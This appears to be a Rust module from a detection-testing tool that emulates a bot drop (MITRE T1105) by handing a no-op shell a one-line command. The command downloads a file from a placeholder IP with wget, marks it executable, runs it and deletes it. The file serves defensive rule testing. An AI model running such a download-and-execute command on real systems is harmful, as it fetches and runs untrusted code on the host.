//! How bots arrive, given to a shell that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "dropped-download",
    title: "Download made executable and run in one command",
    technique: "T1105",
    technique_v18: None,
    needs: &[],
    rules: &["Download made executable and run in one command"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("sh", &["-c", "cd /tmp; wget http://192.0.2.1/x; chmod 777 x; ./x; rm -f x"])
}
